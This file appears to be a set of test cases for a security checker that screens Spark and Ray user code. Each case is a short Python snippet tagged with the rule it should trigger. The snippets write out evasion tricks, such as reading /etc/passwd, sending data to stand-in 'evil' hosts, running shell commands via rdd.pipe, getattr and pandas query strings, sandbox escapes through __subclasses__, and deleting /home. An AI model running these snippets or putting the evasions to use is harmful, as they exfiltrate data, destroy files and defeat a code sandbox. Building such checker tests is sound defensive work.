# Ways around the rules that were found by trying.
# brought: true
# generated: true

#### sql out of a function
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()


def q():
    return spark.sql  #! SEC006


q()("ADD JAR x").show()

#### sql kept in a class
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()


class Q:
    run = spark.sql  #! SEC006


Q.run("ADD JAR x").show()

#### sql by the class of the session
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
from pyspark.sql import SparkSession as S

S.sql(spark, "ADD JAR x").show()  #! SEC006  #? PRV006

#### sql by its keyword
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
spark.sql(sqlQuery="ADD JAR x").show()  #! SEC006

#### sql mended at the last moment
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
t = "ADD JAX x".replace("X", "R")
spark.sql(t).show()  #! SEC006

#### sql out of a dict
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
d = {"a": "ADD JAR x"}
spark.sql(d["a"]).show()  #! SEC006
print(1)

#### sql with a letter by its number
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
spark.sql("ADD" + chr(32) + "JAR x").show()  #! SEC006

#### expr by another name
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
from pyspark.sql.functions import expr as e

spark.range(1).select(e('reflect("a","b")')).show()  #! SEC006

#### a table over foreign files
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
spark.catalog.createExternalTable("t", path="/etc/passwd", source="text").show()  #! SEC011

#### a table made over a folder
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
spark.sql('CREATE TABLE t USING text LOCATION "/etc"')  #! PRV002
spark.table("t").show()

#### a writer of unknown code
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
spark.range(1).write.format("com.evil.Sink").save()  #! SEC007

#### rows into a foreign database
# framework: spark
from pyspark.sql import SparkSession, functions as F  #? ARC004

spark = SparkSession.builder.getOrCreate()
spark.range(1).write.jdbc("jdbc:postgresql://evil/x", "t")  #! SEC011

#### rows into a foreign bucket
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
spark.range(1).write.csv("s3://evil/x")  #! SEC011
print(1)

#### rows through a process
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
print(spark.range(1).rdd.pipe("sh -c id").collect())  #! SEC002

#### a checkpoint outside
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
spark.sparkContext.setCheckpointDir("/etc")  #! SEC011
spark.range(1).show()

#### all settings are read
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
print(spark.sparkContext.getConf().getAll())  #? SEC010

#### settings by a lambda
# framework: spark
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.getOrCreate()
b = SparkSession.builder
list(map(lambda kv: b.config(kv[0], kv[1]), [("spark.jars", "x")]))  #? SEC007
b.getOrCreate().range(1).show()

#### the inside of Ray
# framework: ray
import ray

ray.init()
print(ray._private.worker.global_worker)  #! SEC002, SEC004

#### a file read by a task
# framework: ray
import ray

ray.init()


@ray.remote
def f():
    return open("/etc/" + "passwd").read()  #! PRV002, SEC011


print(ray.get(f.remote()))

#### exec in a thread
# framework: ray
import ray

ray.init()
import threading

t = threading.Thread(target=exec, args=("1",))  #! SEC003
t.start()
print(1)

#### a path of two parts
# framework: ray
import ray

ray.init()
import pathlib

p = pathlib.Path
print(p("/etc", "passwd").read_text())  #! PRV002, SEC011

#### a path opened by its method
# framework: ray
import ray

ray.init()
import pathlib

x = pathlib.PosixPath("/") / "etc/passwd"  #! SEC011
print(x.open().read())  #! PRV002

#### variables out of a path
# framework: ray
import ray

ray.init()
from os import path

print(path.os.environ)  #! SEC002

#### os as a default
# framework: ray
import ray

ray.init()
import os

f = lambda m=os: m  #! SEC004
f().system("x")
print(1)

#### os by a name that grows
# framework: ray
import ray

ray.init()
import os

n = "sys"
n += "tem"
getattr(os, n)("id")  #! SEC004
print(1)

#### os by every name
# framework: ray
import ray

ray.init()
import os

for n in dir(os):  #! SEC004
    if n == "system":
        print(getattr(os, n))  #! SEC004

#### a pattern that reads a class
# framework: ray
import ray

ray.init()
match ():
    case object(__class__=c):  #! SEC004
        print(c.mro())  #! SEC004

#### patterns within patterns
# framework: ray
import ray

ray.init()
match ():
    case object(__class__=object(__subclasses__=s)):  #! SEC004
        print(s())

#### a query that calls
# framework: ray
import ray

ray.init()
import pandas as pd

df = pd.DataFrame({"a": [1]})
print(df.query('@pd.compat.os.system("id")'))  #! SEC003

#### an expression that calls
# framework: ray
import ray

ray.init()
import pandas as pd

print(pd.eval("1+1"))  #! SEC013
print(pd.DataFrame({"a": [1]}).eval("@print(1)"))  #! SEC003

#### an archive of the home folder
# framework: ray
import ray

ray.init()
import shutil

shutil.make_archive("a", "zip", "/home")  #! SEC011
print(1)

#### a temporary file elsewhere
# framework: ray
import ray

ray.init()
import tempfile

print(tempfile.NamedTemporaryFile(dir="/home/x"))  #! SEC011

#### blocks written elsewhere
# framework: ray
import ray

ray.init()
ray.data.range(1).write_csv("/etc/x")  #! SEC011

#### an environment filled later
# framework: ray
import ray

ray.init()
e = {}
e["pip"] = ["x"]


@ray.remote(runtime_env=e)  #! SEC008
def f():
    pass


print(f)

#### an environment updated
# framework: ray
import ray

ray.init()
e = {"env_vars": {}}
e.update(pip=["x"])
ray.init(runtime_env=e, ignore_reinit_error=True)  #! SEC008
print(1)

#### an environment joined
# framework: ray
import ray

ray.init()
e = {"env_vars": {}} | {"pip": ["x"]}
ray.init(runtime_env=e, ignore_reinit_error=True)  #! SEC008
print(1)

#### a log file elsewhere
# framework: ray
import ray

ray.init()
import logging

logging.FileHandler("/etc/x")  #! SEC011
print(1)

#### a folder is deleted
# framework: ray
import ray

ray.init()
import pyarrow.fs as fs

fs.LocalFileSystem().delete_dir("/home")  #! SEC011
print(1)

#### a store at another address
# framework: ray
import ray

ray.init()
import pyarrow.fs as fs

fs.S3FileSystem(endpoint_override="http://evil")  #! SEC007
print(1)

#### a module through its package
# framework: ray
import ray

ray.init()
import urllib

print(urllib.request.urlopen("http://x"))  #! SEC002

#### pandas opens an address
# framework: ray
import ray

ray.init()
import pandas

print(pandas.io.common.urlopen("http://x"))  #! SEC002

#### a frame sent away
# framework: ray
import ray

ray.init()
import pandas as pd

pd.DataFrame({"a": [1]}).to_csv("http://evil/x")  #! SEC011
print(1)

#### another place for modules
# framework: ray
import ray

ray.init()
import sys

sys.path.append("/tmp")  #! SEC002
print(1)

#### processes out of futures
# framework: ray
import ray

ray.init()
import concurrent.futures as c

print(c.process.multiprocessing)  #! SEC002

#### private parts of re
# framework: ray
import ray

ray.init()
import warnings, re

print(re._compiler)  #! SEC004

#### a module out of traceback
# framework: ray
import ray

ray.init()
import traceback

print(traceback.linecache)  #! SEC002

#### sys out of collections
# framework: ray
import ray

ray.init()
from collections import _sys as s  #! SEC002

print(s.modules)  #! SEC002

#### inspect out of dataclasses
# framework: ray
import ray

ray.init()
from dataclasses import inspect  #! SEC002

print(inspect)  #! SEC002

#### os out of threading
# framework: ray
import ray

ray.init()
import threading

print(threading._os.environ)  #! SEC002, SEC004

#### a module written and imported
# framework: ray
import ray

ray.init()
with open("x.py", "w") as f:  #! SEC003
    f.write("import os")
import x  #! SEC001

print(1)

#### eval over data
# framework: ray
import ray

ray.init()
e = ray.data.from_items([1]).map(eval)  #! SEC003
print(e)
